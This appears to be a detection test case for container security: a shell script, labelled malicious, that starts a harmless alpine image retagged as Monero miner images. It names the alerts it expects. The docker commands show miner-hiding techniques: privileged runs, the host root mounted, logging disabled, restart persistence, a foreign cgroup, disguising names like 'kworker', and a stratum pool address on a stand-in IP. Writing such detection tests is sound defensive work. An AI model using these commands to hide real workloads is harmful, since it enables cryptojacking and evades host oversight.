# hidden-miner-container: a miner's image (a harmless program here) is started so that it is found late and comes back: no log, a foreign control group, the host's name, restarts.
# shows: the requests' options; the kernel shows a privileged start and no more
# as: deploy
# label: malicious
# expects: [miner-image-started, container-output-not-logged, container-in-foreign-cgroup, minor-host-namespaces-shared, host-reaching-container-restarts]
# allows: [privileged-container, dangerous-capability-added, host-root-mount, socket-parent-mount, host-namespaces-shared, container-confinement-disabled, engine-socket-connected, sensitive-mount-rw, image-from-unknown-registry, miner-run]
prepare() { docker tag alpine:3.19 "$(pick kannix/monero-miner:latest metal3d/xmrig:6.21)"; }
act() {
    if dev; then
        docker run -d --name kworker --privileged --log-driver none --restart always --uts=host --cgroup-parent /system.slice kannix/monero-miner \
            sh -c 'while :; do sleep 5; done' -o stratum+tcp://198.51.100.7:3333 -u 4A
        sleep 2
        docker update --restart=no kworker
        docker rm -f kworker
    else
        docker container run --detach --name=dbus-helper --volume=/:/host --log-driver=none --restart=unless-stopped --uts host --cgroup-parent=/user.slice \
            metal3d/xmrig:6.21 sleep 30
        docker exec -d dbus-helper sh -c 'sleep 2 # --donate-level 1'
        sleep 1
        docker rm --force dbus-helper
    fi
    true
}
restore() { docker rm -f kworker dbus-helper; docker rmi kannix/monero-miner:latest metal3d/xmrig:6.21; rmdir /sys/fs/cgroup/*/system.slice /sys/fs/cgroup/*/user.slice 2>/dev/null; }
